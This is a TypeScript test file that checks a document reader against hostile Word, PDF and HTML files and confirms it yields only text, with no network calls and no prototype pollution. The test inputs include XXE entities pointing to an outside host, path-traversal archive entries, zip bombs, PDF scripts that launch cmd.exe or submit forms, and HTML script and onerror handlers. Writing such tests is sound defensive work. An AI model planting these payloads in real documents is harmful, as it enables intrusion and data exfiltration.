import { strToU8, zipSync } from "fflate";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { readBytes } from "../../rules/index.ts";
import { docxOf, textFile } from "../files/bad-files.ts";
import { pdfWith } from "./bad-pdf.ts";

// A file that goes for the reader: each is read as nothing but text, or refused, and reaches for nothing meanwhile.

const loadPdf = () => import("pdfjs-dist/legacy/build/pdf.mjs");
const outcome = async (bytes: Uint8Array): Promise<string> => {
  const result = await readBytes(bytes, { loadPdf });
  return result.ok ? `gelezen: ${result.text}` : result.reason;
};

const fetched = vi.fn<typeof fetch>();

beforeEach(() => {
  vi.stubGlobal("fetch", fetched);
});
afterEach(() => {
  vi.unstubAllGlobals();
  if (fetched.mock.calls.length > 0) throw new Error("The reader reached for something else.");
  if ("polluted" in {}) throw new Error("Every object has a property more.");
});

const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const word = (body: string): string => `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`;
const opening = paragraph("De Kamer,");

/** A Word file with more in it than its text. */
const wordWith = (others: Readonly<Record<string, Uint8Array>>): Uint8Array =>
  zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "word/document.xml": strToU8(word(opening)), ...others });

const relationship = (type: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`;

describe("a hostile Word file", () => {
  test.each([
    [
      "asks for a template elsewhere",
      { "word/_rels/settings.xml.rels": relationship("attachedTemplate", "https://x.example/t.dotm") },
    ],
    [
      "asks for a picture elsewhere",
      { "word/_rels/document.xml.rels": relationship("image", "\\\\x.example\\c$\\p.png") },
    ],
    ["brings a macro", { "word/vbaProject.bin": "Sub AutoOpen()" }],
    ["names parts outside its folder", { "../../etc/passwd": "x", "/word/document.xml": "x", __proto__: "x" }],
  ])("that $0 is read as its text alone", async (_, parts) => {
    const others = Object.entries(parts).map(([name, content]) => [name, strToU8(content)] as const);
    expect(await outcome(wordWith(Object.fromEntries(others)))).toBe("gelezen: De Kamer,");
  });

  test("with a zip bomb inside is read without opening that", async () => {
    const bomb = zipSync({ "word/document.xml": new Uint8Array(8_000_000) });
    const bombs = { "word/embeddings/a.docx": bomb, "word/media/b.zip": zipSync({ "c.zip": bomb }) };
    expect(await outcome(wordWith(bombs))).toBe("gelezen: De Kamer,");
  });

  test("with entities of its own is refused", async () => {
    const entity = `<!DOCTYPE w [<!ENTITY x SYSTEM "https://x.example/">]>${word(paragraph("&x;"))}`;
    expect(await outcome(docxOf(entity))).toBe("docx-kapot");
  });

  test("with parameter entities in UTF-16 is refused", async () => {
    const entity = `\uFEFF<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY % x SYSTEM "https://x.example/"> %x;]>${word(opening)}`;
    const codes = Array.from({ length: entity.length }, (_, at) => entity.charCodeAt(at));
    const utf16 = Uint8Array.from(codes.flatMap((code) => [code % 256, code >> 8]));
    const file = zipSync({ "[Content_Types].xml": strToU8("<Types/>"), "word/document.xml": utf16 });
    expect(await outcome(file)).toBe("docx-kapot");
  });

  test.each([
    ["tables", "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"],
    ["content controls", "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"],
    ["paragraphs", "<w:p><w:r>", "</w:r></w:p>"],
  ])("of $0 thousands deep is read or refused, never the end of the reader", async (_, open, close) => {
    const deep = word(open.repeat(20_000) + opening + close.repeat(20_000));
    expect(await outcome(docxOf(deep))).toMatch(/^(docx-kapot|leeg|te-groot)$/);
  });

  test("whose numbering refers to itself is read", async () => {
    const styled = `<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>De Kamer,</w:t></w:r></w:p>`;
    const file = zipSync({
      "[Content_Types].xml": strToU8("<Types/>"),
      "word/document.xml": strToU8(word(styled)),
      "word/styles.xml": strToU8(
        `<w:styles><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
      ),
      "word/numbering.xml": strToU8(
        `<w:numbering><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>`,
      ),
    });
    expect(await outcome(file)).toBe("gelezen: De Kamer,");
  });

  test("whose numbering counts to the end of numbers is read", async () => {
    const numbered = `<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>De Kamer,</w:t></w:r></w:p>`;
    const numbering = `<w:numbering><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="999999999"><w:start w:val="1e308"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>`;
    const file = zipSync({
      "[Content_Types].xml": strToU8("<Types/>"),
      "word/document.xml": strToU8(word(numbered)),
      "word/numbering.xml": strToU8(numbering),
    });
    expect(await outcome(file)).toMatch(/^gelezen: .{0,40}De Kamer,$/);
  });
});

describe("a hostile PDF", () => {
  const script = "/S /JavaScript /JS (this.polluted = true; app.launchURL\\('https://x.example'\\))";
  test.each([
    ["runs a script when opened", { catalog: `/OpenAction << ${script} >>` }],
    ["runs scripts by name", { catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>` }],
    ["starts a program", { catalog: "/OpenAction << /S /Launch /F (cmd.exe) /NewWindow true >>" }],
    ["sends a form away", { catalog: "/OpenAction << /S /SubmitForm /F (https://x.example) >>" }],
    ["opens a file elsewhere", { page: "/AA << /O << /S /GoToR /F (\\\\\\\\x.example\\\\c) /D [0 /Fit] >> >>" }],
    [
      "links to a script",
      { page: "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]" },
    ],
    ["brings an XFA form", { catalog: "/AcroForm << /XFA (<xdp><script>polluted</script></xdp>) /Fields [] >>" }],
    ["is its own parent", { pages: "/Kids [3 0 R] /Count 1 /Parent 2 0 R" }],
    ["says it has a thousand million pages", { pages: "/Kids [3 0 R] /Count 1000000000" }],
  ])("that $0 is read as its text alone", async (_, parts) => {
    expect(await outcome(pdfWith(parts))).toMatch(/^gelezen: De Kamer, verzoekt/);
  });

  test.each([
    ["holds itself as a page", "/Kids [2 0 R] /Count 1"],
    ["holds itself a hundred times", `/Kids [${"2 0 R ".repeat(100)}] /Count 100`],
    ["has pages below nothing", "/Kids [999 0 R] /Count 1"],
    ["has fewer than no pages", "/Kids [3 0 R] /Count -1"],
  ])("that $0 is refused", async (_, pages) => {
    expect(await outcome(pdfWith({ pages }))).toMatch(/^(te-groot|pdf-kapot|pdf-zonder-tekst)$/);
  });
});

describe("a hostile page or text", () => {
  const body =
    "<p>De Kamer,</p><p>verzoekt de regering te bezien of het anders kan, en gaat over tot de orde van de dag.</p>";

  test("that is a hundred thousand elements deep is refused", async () => {
    const deep = `<html><body>${"<div>".repeat(100_000)}${body}`;
    expect(await outcome(textFile(deep))).toMatch(/^(te-groot|geen-document|html-in-plaats-van-bestand)$/);
  });

  test("with scripts, frames and handlers is read as its words alone", async () => {
    const page = `<html><head><base href="https://x.example/"><meta http-equiv="refresh" content="0;url=https://x.example"></head>
<body onload="polluted=1"><script>polluted = 1;</script><iframe src="https://x.example"></iframe><img src=x onerror="polluted=1">
<svg onload="polluted=1"><script>polluted=1</script></svg><object data="https://x.example"></object><div class="stuk">${body}</div></body></html>`;
    const text = await outcome(textFile(page));
    expect(text).toContain("De Kamer,");
    expect(text).not.toMatch(/polluted|x\.example/);
  });

  test("of XML thousands deep is refused", async () => {
    const deep = `<?xml version="1.0"?><officiele-publicatie>${"<al>".repeat(50_000)}x${"</al>".repeat(50_000)}</officiele-publicatie>`;
    expect(await outcome(textFile(deep))).toMatch(/^(xml-kapot|geen-document|leeg)$/);
  });
});
